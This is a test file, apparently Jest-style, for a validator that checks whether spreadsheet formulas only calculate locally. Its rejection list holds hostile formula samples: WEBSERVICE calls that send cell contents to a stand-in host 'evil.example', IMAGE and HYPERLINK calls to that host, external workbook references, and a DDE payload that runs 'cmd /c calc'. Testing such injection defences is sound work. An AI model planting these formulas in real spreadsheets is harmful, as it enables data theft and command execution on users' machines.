import { calculatesAlone } from '../../../src/domain/workbook';

it.each([
  '=1+1',
  '=SUM(B5:B9)',
  `=IF(AllPriorities[[#This Row],[Ref]]="","",COUNTIFS('All priorities'!A:A,"x|y",B:B,">http://"))`,
  `=HYPERLINK("#'All priorities'!A5","COM-01")`,
  '=_xlfn.XLOOKUP(A1,B:B,C:C)',
  '=_xlfn._xlws.FILTER(A1:A3,B1:B3)',
])('%s calculates', (formula) => expect(calculatesAlone(formula)).toBe(true));

it.each([
  '=WEBSERVICE("http://evil.example/"&A5)',
  '=_xlfn.WEBSERVICE("http://evil.example")',
  '=1+webservice ("x")',
  '=HYPERLINK("http://evil.example","Open")',
  `=HYPERLINK("#'A'!A1","x")&WEBSERVICE("y")`,
  '=IMAGE("http://evil.example")',
  "='C:\\books\\[Other.xlsx]Sheet1'!A1",
  '=[Other.xlsx]Sheet1!A1',
  '=[1]Sheet1!A1',
  '=cmd|"/c calc"!A1',
  '=INDIRECT("A1")',
  '=Évil(1)',
])('%s does more', (formula) => expect(calculatesAlone(formula)).toBe(false));
